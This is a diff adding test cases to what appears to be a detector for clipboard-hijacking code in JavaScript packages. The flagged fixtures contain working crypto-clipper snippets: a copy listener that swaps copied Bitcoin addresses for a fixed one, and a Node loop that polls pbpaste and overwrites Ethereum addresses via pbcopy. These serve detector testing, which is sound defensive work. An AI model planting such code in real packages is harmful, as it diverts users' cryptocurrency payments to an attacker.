@@ -7,6 +7,21 @@ const ELSE = Array.from({ length: 1_000 }, (_, at) => `function f${at}() { retur
 examine(watchesClipboard, {
   speaks: [
     {
+      when: 'a function that is called listens for copies, and puts one address of an older kind in their place',
+      files: {
+        'index.js': `exports.go = () => document.addEventListener('copy', event => { if (/^(bc1|[13])[a-zA-Z0-9]{25,39}$/.test(String(getSelection()))) { event.clipboardData.setData('text/plain', '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'); event.preventDefault(); } });`,
+      },
+      weight: 'strong',
+      says: ['Bitcoin'],
+    },
+    {
+      when: 'a function that is called asks again and again, and has a line put one address there',
+      files: {
+        'index.js': `const cp = require('child_process'); exports.go = () => setInterval(() => cp.exec('pbpaste', (error, text) => { if (/^0x/.test(text)) cp.exec('echo 0x000000000000000000000000000000000000dEaD | pbcopy'); }), 500);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'whoever subscribes to what is read puts one address there, of which no page speaks',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
@@ -147,6 +162,12 @@ examine(watchesClipboard, {
     },
   ],
   silent: [
+    {
+      when: 'a page adds where a text is from to what is copied',
+      files: {
+        'index.js': `exports.go = () => document.addEventListener('copy', event => { event.clipboardData.setData('text/plain', getSelection() + ' (from inert.invalid)'); event.preventDefault(); });`,
+      },
+    },
     {
       when: 'a command reads the clipboard, and another copies an address for donations that stands on the page',
       files: {
